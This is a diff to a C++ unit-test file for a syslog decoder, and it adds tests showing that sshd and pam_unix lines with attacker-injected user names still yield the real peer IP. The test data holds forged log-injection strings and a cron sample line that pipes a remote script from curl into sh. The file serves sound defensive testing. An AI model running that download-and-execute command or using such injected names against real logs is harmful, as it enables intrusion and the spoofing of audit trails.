@@ -130,6 +130,47 @@ TEST(SshdTest, InjectedUserNameKeepsRealPeer) {
   EXPECT_EQ(F(inv, "user.name"), "a from 10.0.0.1");
 }
 
+// Whatever an attacker types as the user name, the peer is what sshd (or
+// pam_unix) wrote after it.
+TEST(SshdTest, InjectedUserNameKeepsRealPeerInEveryMessage) {
+  struct Case {
+    const char* line;
+    const char* ip;
+    const char* user;
+  } cases[] = {
+      {"Nov 28 10:00:01 web1 sshd[811]: Failed password for invalid user x from 10.0.0.1 port 22 "
+       "ssh2 from 203.0.113.9 port 40022 ssh2",
+       "203.0.113.9", "x from 10.0.0.1 port 22 ssh2"},
+      {"Nov 28 10:00:01 web1 sshd[811]: Failed password for invalid user from 10.0.0.1 port 22 "
+       "from 203.0.113.9 port 40022 ssh2",
+       "203.0.113.9", "from 10.0.0.1 port 22"},
+      {"Nov 28 10:00:01 web1 sshd[811]: message repeated 2 times: [ Failed password for invalid "
+       "user x from 10.0.0.1 port 22 from 203.0.113.9 port 40022 ssh2]",
+       "203.0.113.9", "x from 10.0.0.1 port 22"},
+      {"Nov 28 10:00:01 web1 sshd[811]: Invalid user x from 10.0.0.1 port 22 from 203.0.113.9 "
+       "port 40022",
+       "203.0.113.9", "x from 10.0.0.1 port 22"},
+      {"Nov 28 10:00:01 web1 sshd[811]: error: maximum authentication attempts exceeded for "
+       "invalid user x from 10.0.0.1 port 22 from 203.0.113.9 port 40022 ssh2 [preauth]",
+       "203.0.113.9", "x from 10.0.0.1 port 22"},
+      {"Nov 28 10:00:01 web1 sshd[811]: Connection closed by invalid user x 10.0.0.1 port 22 "
+       "203.0.113.9 port 40022 [preauth]",
+       "203.0.113.9", "x 10.0.0.1 port 22"},
+      {"Nov 28 10:00:01 web1 sshd[811]: Disconnected from invalid user x 10.0.0.1 port 22 "
+       "203.0.113.9 port 40022 [preauth]",
+       "203.0.113.9", "x 10.0.0.1 port 22"},
+      // pam_unix puts the user last: a "rhost=" inside it is not the peer.
+      {"Nov 28 10:50:01 web1 vsftpd[6001]: pam_unix(vsftpd:auth): authentication failure; "
+       "logname= uid=0 euid=0 tty=ftp ruser=x rhost=203.0.113.9  user=x rhost=10.0.0.1",
+       "203.0.113.9", "x rhost=10.0.0.1"},
+  };
+  for (const Case& c : cases) {
+    Event ev = Decode(c.line);
+    EXPECT_EQ(F(ev, "source.ip"), c.ip) << c.line;
+    EXPECT_EQ(F(ev, "user.name"), c.user) << c.line;
+  }
+}
+
 TEST(SshdTest, OtherMessages) {
   Event ev = Decode(
       "Dec 10 06:55:46 LabSZ sshd[24200]: reverse mapping checking getaddrinfo for "
@@ -383,8 +424,11 @@ TEST(CronTest, Commands) {
   EXPECT_EQ(G(c, "event.action"), "cron_command");
   EXPECT_EQ(G(c, "user.name"), "www-data");
   EXPECT_EQ(G(c, "process.command_line"), "curl -s http://198.51.100.9/x.sh | sh");
+  // crontab(1) itself logs the edits: root replaced www-data's crontab.
   Event r = D("Nov 28 10:45:02 web1 crontab[5001]: (root) REPLACE (www-data)");
-  EXPECT_EQ(G(r, "event.action"), "<absent>");  // crontab is not cron; no decoder claims it
+  EXPECT_EQ(G(r, "event.action"), "crontab_replaced");
+  EXPECT_EQ(G(r, "user.name"), "root");
+  EXPECT_EQ(G(r, "user.target.name"), "www-data");
   Event r2 = D("Nov 28 10:45:02 web1 cron[5001]: (root) REPLACE (www-data)");
   EXPECT_EQ(G(r2, "event.action"), "crontab_replaced");
 }
